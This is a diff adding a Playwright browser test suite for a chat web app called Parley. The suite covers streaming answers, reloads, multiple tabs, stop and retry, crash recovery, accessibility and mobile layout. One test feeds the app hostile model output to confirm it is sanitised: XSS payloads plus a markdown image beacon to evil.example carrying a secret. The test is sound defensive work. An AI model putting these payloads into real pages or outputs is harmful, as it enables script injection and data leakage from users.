@@ -1,0 +1,324 @@
+"""What people see and do, in a real Chromium, before a real `manage.py serve`."""
+
+import re
+from collections.abc import Callable, Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+from axe_playwright_python.sync_playwright import Axe
+from playwright.sync_api import Browser, BrowserContext, Page, Route, expect, sync_playwright
+
+from tests.cog import start_cog_server
+from tests.fake_replicate import FakeReplicate, Gate, Script, recorded_errors
+from tests.site import Site
+
+CHROMIUM = "/usr/bin/chromium"
+FLAGS = (
+    *("--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run"),
+    *("--disable-background-networking", "--disable-component-update", "--disable-sync"),
+)
+PASSWORD = "a long enough phrase"
+PATIENCE = 15_000  # milliseconds
+
+expect.set_options(timeout=PATIENCE)
+
+
+@pytest.fixture(scope="module")
+def browser() -> Iterator[Browser]:
+    with sync_playwright() as playwright:
+        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=list(FLAGS))
+        yield browser
+        browser.close()
+
+
+@pytest.fixture(scope="module")
+def host() -> Iterator[FakeReplicate]:
+    with FakeReplicate() as fake:
+        yield fake
+
+
+@pytest.fixture(scope="module")
+def site(host: FakeReplicate, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
+    environment = {
+        "REPLICATE_API_TOKEN": host.token,
+        "PARLEY_REPLICATE_URL": host.url,
+        "PARLEY_REPLICATE_MODELS": "meta/meta-llama-3-8b-instruct",
+    }
+    with Site(tmp_path_factory.mktemp("site"), environment) as site:
+        yield site
+
+
+@pytest.fixture(scope="module")
+def signed_in(browser: Browser, site: Site) -> Any:
+    """The first visit: the printed address makes the first admin. Returns what the browser keeps of it."""
+    context = browser.new_context()
+    page = context.new_page()
+    page.goto(site.address)
+    expect(page.get_by_role("heading", name="Welcome to Parley")).to_be_visible()
+    page.get_by_label("Username").fill("ada")
+    page.get_by_label("Password", exact=True).fill(PASSWORD)
+    page.get_by_label("Password confirmation").fill(PASSWORD)
+    page.get_by_role("button", name="Create account").click()
+    expect(page.get_by_role("textbox", name="Message")).to_be_visible()
+    state = context.storage_state()
+    context.close()
+    return state
+
+
+Open = Callable[..., Page]
+
+
+@pytest.fixture
+def open_page(browser: Browser, site: Site, signed_in: Any) -> Iterator[Open]:
+    """Open pages for ada; each has its own context. What a page logs as an error fails the test."""
+    contexts: list[BrowserContext] = []
+    complaints: list[str] = []
+
+    def open_(path: str = "/", **options: Any) -> Page:
+        context = browser.new_context(storage_state=signed_in, base_url=site.url, **options)
+        contexts.append(context)
+        context.set_default_timeout(PATIENCE)
+        page = context.new_page()
+        page.on("pageerror", lambda error: complaints.append(str(error)))
+        page.on("console", lambda message: complaints.append(message.text) if message.type == "error" else None)
+        page.goto(path)
+        return page
+
+    yield open_
+    for context in contexts:
+        context.close()
+    # A connection that broke is part of some scenes; everything else that a browser complains of is ours.
+    assert [text for text in complaints if "ERR_CONNECTION" not in text and "WebSocket" not in text] == []
+
+
+def send(page: Page, text: str) -> None:
+    page.get_by_role("textbox", name="Message").fill(text)
+    page.get_by_role("button", name="Send").click()
+
+
+def answer_of(page: Page) -> Any:
+    return page.locator(".message--assistant").last
+
+
+def test_a_question_is_answered_as_it_streams(open_page: Open, host: FakeReplicate) -> None:
+    gate = Gate()
+    host.script(Script(steps=["The capital of **France**", gate, " is *Paris*.\n\n```python\nprint(1)\n```\n"]))
+    page = open_page()
+    send(page, "What is the capital of France?")
+
+    expect(page.locator(".message--user")).to_have_text(re.compile("What is the capital of France?"))
+    expect(answer_of(page).locator("strong")).to_have_text("France")
+    expect(page.get_by_role("button", name="Stop")).to_be_visible()
+    gate.open()
+    expect(answer_of(page).locator("em")).to_have_text("Paris")
+    expect(answer_of(page).locator("pre code")).to_have_text(re.compile(r"print\(1\)"))
+    expect(page.get_by_role("button", name="Stop")).to_be_hidden()
+    expect(page.get_by_role("textbox", name="Message")).to_be_focused()
+    expect(page.locator("nav, aside").get_by_role("link", name="What is the capital of France?").first).to_be_attached()
+
+    host.script(Script(chunks=["Berlin."]))
+    page.get_by_role("textbox", name="Message").fill("And of Germany?")
+    page.keyboard.press("Enter")
+    expect(answer_of(page)).to_contain_text("Berlin.")
+    assert "Paris" in host.ledger.created[-1].body["input"]["prompt"]
+
+
+def test_a_reload_in_mid_answer_goes_on_where_it_stood(open_page: Open, host: FakeReplicate) -> None:
+    gate = Gate()
+    host.script(Script(steps=["Grüße 👩‍🚀 ", "und", gate, " mehr."]))
+    page = open_page()
+    send(page, "Say hello in German")
+    expect(answer_of(page)).to_contain_text("Grüße 👩‍🚀 und")
+
+    page.reload()
+    expect(answer_of(page)).to_contain_text("Grüße 👩‍🚀 und")
+    gate.open()
+
+    expect(answer_of(page).locator("answer-text")).to_have_text("Grüße 👩‍🚀 und mehr.")
+    expect(page.get_by_role("button", name="Stop")).to_be_hidden()
+
+
+def test_a_second_tab_follows_live_and_both_end_alike(open_page: Open, host: FakeReplicate) -> None:
+    gate = Gate()
+    host.script(Script(steps=["One, two,", gate, " three."]), Script(chunks=["Four."]))
+    first = open_page()
+    send(first, "Count")
+    expect(answer_of(first)).to_contain_text("One, two,")
+    second = open_page(first.url.partition("127.0.0.1")[2].partition("/")[2].join(["/", ""]))
+    expect(answer_of(second)).to_contain_text("One, two,")
+    gate.open()
+    for page in (first, second):
+        expect(answer_of(page).locator("answer-text")).to_have_text("One, two, three.")
+
+    send(second, "Go on")
+    expect(answer_of(first)).to_contain_text("Four.")
+    expect(answer_of(second)).to_contain_text("Four.")
+    assert first.locator(".messages").inner_text() == second.locator(".messages").inner_text()
+    second.reload()
+    assert first.locator(".messages").inner_text() == second.locator(".messages").inner_text()
+
+
+def test_stop_keeps_what_was_seen_in_every_tab(open_page: Open, host: FakeReplicate) -> None:
+    gate = Gate()
+    host.script(Script(steps=["Once upon a time", gate, " there was more."]))
+    page = open_page()
+    send(page, "Tell me a story")
+    expect(answer_of(page)).to_contain_text("Once upon a time")
+    other = open_page(page.url)
+
+    other.get_by_role("button", name="Stop").click()
+
+    for tab in (page, other):
+        expect(answer_of(tab)).to_contain_text("Stopped.")
+        expect(answer_of(tab).locator("answer-text")).to_have_text("Once upon a time")
+    host.ledger.wait_for(lambda ledger: ledger.canceled())
+    gate.open()
+
+
+def test_a_failure_is_told_and_can_be_tried_again(open_page: Open, host: FakeReplicate) -> None:
+    host.script(Script(on_create=recorded_errors(402)[0]), Script(chunks=["Now it works."]))
+    page = open_page()
+    send(page, "Will it work?")
+    expect(answer_of(page)).to_contain_text("no credit left")
+
+    page.get_by_role("button", name="Try again").click()
+
+    expect(answer_of(page)).to_contain_text("Now it works.")
+    expect(page.locator(".message--assistant")).to_have_count(1)
+
+
+def test_waiting_is_explained(open_page: Open, host: FakeReplicate) -> None:
+    boot = Gate()
+    host.script(Script(chunks=["Awake."], boot=boot))
+    page = open_page()
+    send(page, "Are you awake?")
+
+    expect(answer_of(page)).to_contain_text(re.compile(r"Starting · \d+ s"))
+    boot.open()
+    expect(answer_of(page)).to_contain_text("Awake.")
+
+
+def test_a_crash_in_mid_answer_costs_a_pause_and_nothing_else(open_page: Open, site: Site, host: FakeReplicate) -> None:
+    gate = Gate()
+    host.script(Script(steps=["Before the crash,", gate, " after it."]))
+    asked = len(host.ledger.created)
+    page = open_page()
+    send(page, "Hold on")
+    expect(answer_of(page)).to_contain_text("Before the crash,")
+
+    site.kill()
+    expect(page.get_by_text("The connection is lost. Trying again")).to_be_visible()
+    site.start()
+    gate.open()
+
+    expect(answer_of(page).locator("answer-text")).to_have_text("Before the crash, after it.", timeout=40_000)
+    assert len(host.ledger.created) == asked + 1
+
+
+def test_everything_works_without_scripts(open_page: Open, host: FakeReplicate) -> None:
+    gate = Gate()
+    host.script(Script(steps=["Plain", gate, " **text**."]))
+    page = open_page(java_script_enabled=False)
+    send(page, "Without scripts?")
+    expect(page.locator(".message--user")).to_contain_text("Without scripts?")
+    expect(answer_of(page)).to_contain_text("Plain")  # the page asks for itself again
+    gate.open()
+
+    expect(answer_of(page).locator("strong")).to_have_text("text")
+
+
+def test_hostile_output_runs_nothing_and_asks_nobody(open_page: Open, host: FakeReplicate) -> None:
+    hostile = (
+        "<img src=x onerror=alert(1)> <script>alert(2)</script> [click](javascript:alert(3)) "
+        "![pixel](https://evil.example/p.png?secret) <svg onload=alert(4)> [ref]\n\n"
+        '<iframe srcdoc="<script>parent.alert(5)</script>"></iframe>\n\n[ref]: data:text/html,<script>alert(6)</script>\n'
+    )
+    gate = Gate()
+    host.script(Script(steps=[*(hostile[i : i + 7] for i in range(0, len(hostile), 7)), gate, "\n\nEnd."]))
+    page = open_page()
+    alerts: list[str] = []
+    elsewhere: list[str] = []
+    page.on("dialog", lambda dialog: (alerts.append(dialog.message), dialog.dismiss()))
+
+    def watch(route: Route) -> None:
+        if "127.0.0.1" not in route.request.url:
+            elsewhere.append(route.request.url)
+        route.continue_()
+
+    page.route("**/*", watch)
+    send(page, "Be nasty")
+    gate.wait_reached()
+    expect(answer_of(page)).to_contain_text("click")
+    gate.open()
+    expect(answer_of(page)).to_contain_text("End.")
+    page.reload()
+    expect(answer_of(page)).to_contain_text("End.")
+
+    assert (alerts, elsewhere) == ([], [])
+    for selector in (
+        "script",
+        "iframe",
+        "svg[onload]",
+        "img[src*=evil]",
+        "[onerror]",
+        "a[href^='javascript']",
+        "a[href^='data']",
+    ):
+        assert page.locator(f"answer-text {selector}").count() == 0, selector
+
+
+@pytest.mark.parametrize("scheme", ["light", "dark"])
+def test_nothing_stands_in_the_way_of_anybody(scheme: Any, open_page: Open, host: FakeReplicate, site: Site) -> None:
+    host.script(Script(chunks=["# Title\n\nA [link](https://example.org) and `code`.\n\n```python\nx = 1\n```\n"]))
+    page = open_page(color_scheme=scheme)
+    violations = [Axe().run(page).response["violations"]]
+    send(page, "Show me")
+    expect(page.get_by_role("button", name="Stop")).to_be_hidden()
+    expect(answer_of(page)).to_contain_text("Title")
+    violations.append(Axe().run(page).response["violations"])
+    page.context.clear_cookies()
+    page.goto("/accounts/login/")
+    violations.append(Axe().run(page).response["violations"])
+
+    assert [(v["id"], v["nodes"][0]["html"]) for found in violations for v in found] == []
+
+
+def test_a_phone_shows_everything_without_scrolling_sideways(open_page: Open, host: FakeReplicate) -> None:
+    host.script(Script(chunks=["x" * 300 + "\n\n```\n" + "y" * 300 + "\n```\n\n|a|b|\n|-|-|\n|" + "z" * 200 + "|1|\n"]))
+    page = open_page(viewport={"width": 390, "height": 844}, has_touch=True, is_mobile=True)
+    send(page, "Long words")
+    expect(answer_of(page).locator("table")).to_be_visible()
+
+    assert page.evaluate("document.documentElement.scrollWidth") <= 390
+    page.get_by_role("button", name="Conversations").click()
+    expect(page.get_by_role("link", name="Long words").first).to_be_visible()
+
+
+def test_signing_in_and_out(signed_in: Any, open_page: Open) -> None:
+    page = open_page()
+    page.context.clear_cookies()  # a session of its own: signing out ends it for the other tests otherwise
+    page.goto("/")
+    page.get_by_label("Username").fill("ada")
+    page.get_by_label("Password").fill("wrong")
+    page.get_by_role("button", name="Sign in").click()
+    expect(page.get_by_role("alert")).to_be_visible()
+    page.get_by_label("Password").fill(PASSWORD)
+    page.get_by_role("button", name="Sign in").click()
+    expect(page.get_by_role("textbox", name="Message")).to_be_visible()
+    page.get_by_role("button", name="Sign out").click()
+    expect(page.get_by_label("Username")).to_be_visible()
+
+
+def test_the_bundled_model_answers_in_the_page(browser: Browser, tmp_path: Path) -> None:
+    with start_cog_server("smollm2") as server, Site(tmp_path, {"PARLEY_COG_SERVERS": f"smollm2={server.url}"}) as site:
+        context = browser.new_context()
+        page = context.new_page()
+        page.goto(site.address)
+        page.get_by_label("Username").fill("ada")
+        page.get_by_label("Password", exact=True).fill(PASSWORD)
+        page.get_by_label("Password confirmation").fill(PASSWORD)
+        page.get_by_role("button", name="Create account").click()
+        send(page, "What is the capital of France?")
+        expect(answer_of(page).locator("answer-text")).to_contain_text("Paris", timeout=60_000)
+        context.close()
